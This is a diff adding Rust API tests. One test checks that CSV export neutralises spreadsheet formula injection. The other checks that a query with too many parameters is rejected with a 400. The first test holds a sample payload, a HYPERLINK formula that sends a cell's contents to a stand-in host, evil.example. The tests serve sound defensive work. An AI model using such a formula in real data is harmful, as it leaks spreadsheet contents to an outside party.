@@ -10,6 +10,8 @@ use crate::harness::{Case, TestApp};
 pub fn cases() -> Vec<Case> {
     cases![
         malformed_or_empty_json_is_400,
+        csv_cells_a_spreadsheet_would_run_are_neutralised,
+        a_query_with_too_many_parameters_is_400,
         wrong_or_missing_content_type_is_415,
         wrong_types_are_422_naming_each_field,
         unknown_fields_are_rejected,
@@ -497,4 +499,65 @@ async fn injection_strings_are_data_not_sql(app: TestApp) {
 
 fn urlencode(s: &str) -> String {
     form_urlencoded::byte_serialize(s.as_bytes()).collect()
+}
+
+/// OWASP's CSV-injection rule: a cell starting with = + - @ TAB or CR opens as text.
+async fn csv_cells_a_spreadsheet_would_run_are_neutralised(app: TestApp) {
+    let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
+    for (slug, title) in [
+        ("evil-eq", evil),
+        ("evil-plus", "+1+1"),
+        ("evil-at", "@SUM(A1)"),
+        ("evil-minus", "-2+3"),
+    ] {
+        app.write(
+            Method::POST,
+            "/v1/sources",
+            Some(&json!({"slug": slug, "title": title})),
+        )
+        .await
+        .assert_status(201);
+        // JSON keeps the exact value.
+        assert_eq!(
+            app.get(&format!("/v1/sources/{slug}")).await.body["title"],
+            title
+        );
+    }
+    let csv = app.get("/v1/sources.csv?limit=500").await;
+    assert_eq!(csv.status, 200, "{}", csv.text);
+    for (slug, shown) in [
+        (
+            "evil-eq",
+            r#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#.to_string(),
+        ),
+        ("evil-plus", "'+1+1".to_string()),
+        ("evil-at", "'@SUM(A1)".to_string()),
+        ("evil-minus", "'-2+3".to_string()),
+    ] {
+        let line = csv
+            .text
+            .lines()
+            .find(|l| l.starts_with(&format!("{slug},")))
+            .unwrap_or_else(|| panic!("{slug} in {}", csv.text));
+        assert!(line.starts_with(&format!("{slug},{shown}")), "{line}");
+    }
+}
+
+async fn a_query_with_too_many_parameters_is_400(app: TestApp) {
+    let many: Vec<String> = (0..101).map(|i| format!("p{i}=1")).collect();
+    let r = app.get(&format!("/v1/states?{}", many.join("&"))).await;
+    r.assert_problem(400);
+    assert!(
+        r.body["detail"].as_str().unwrap().contains("100"),
+        "{}",
+        r.text
+    );
+    // A hostile query near the URI limit (60 KB, ~8,000 parameters) is refused the same
+    // way: parsing stops at the limit.
+    let hostile: Vec<String> = (0..8_000).map(|i| format!("a{i}=b")).collect();
+    let q = hostile.join("&");
+    assert!(q.len() > 60_000);
+    app.get(&format!("/v1/organisations/csto/members?{q}"))
+        .await
+        .assert_problem(400);
 }
